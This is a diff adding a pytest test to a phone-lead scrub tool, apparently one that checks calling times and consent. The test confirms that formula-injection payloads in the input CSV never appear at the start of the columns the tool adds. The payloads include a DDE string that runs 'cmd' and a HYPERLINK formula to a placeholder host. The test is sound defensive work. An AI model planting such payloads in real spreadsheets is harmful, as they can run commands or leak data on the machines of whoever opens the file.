@@ -4,6 +4,8 @@ reported INVALID, never a traceback, and the lead file itself is never replaced.
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 
 import pytest
@@ -69,3 +71,29 @@ def test_report_out_naming_the_audit_trail_is_refused(
                      "2026-12-01", "--out", str(out), *files]) == 2, out
         assert "it would be replaced" in capsys.readouterr().err
     assert trail.read_text(encoding="utf-8") == rotated.read_text(encoding="utf-8") == ""
+
+
+FORMULAS = ["=HYPERLINK(\"http://x.invalid/?\"&A2;\"click\")", "+33 6 12 34 56 78)*0+1",
+            "-2+3", "@SUM(1)", "\t=1", "=cmd|' /C calc'!A0"]
+
+
+def test_added_columns_never_start_a_formula(tmp_path: Path) -> None:
+    """Spreadsheet formula injection: the lead file's own cells are written back verbatim
+    (docs/scrub.md says so); the columns the scrub adds hold only its own words, E.164
+    numbers (+ and digits), instants and zone names, never the hostile input."""
+    buf = io.StringIO()
+    writer = csv.writer(buf, lineterminator="\n")
+    writer.writerow(["name", "phone"])
+    writer.writerows([[f, f] for f in FORMULAS] + [["x", "06 12 34 56 78"], ['"', '"']])
+    path = leads(tmp_path, buf.getvalue())
+    out = tmp_path / "out.csv"
+    assert main(["scrub", str(path), "--campaign", "demo", "--at",
+                 "2026-12-01T10:30:00+01:00", "--out", str(out)]) == 0
+    with out.open(encoding="utf-8", newline="") as fh:
+        rows = list(csv.DictReader(fh))
+    assert [r["phone"] for r in rows[:len(FORMULAS)]] == FORMULAS  # verbatim
+    for row in rows:
+        for name in ("verdict", "reason", "next_legal_at", "next_legal_local", "zones",
+                     "consent_id", "contract_id", "error"):
+            assert row[name][:1] not in ("=", "+", "-", "@", "\t", "\r"), (name, row)
+        assert row["e164"] == "" or row["e164"][1:].isdigit()
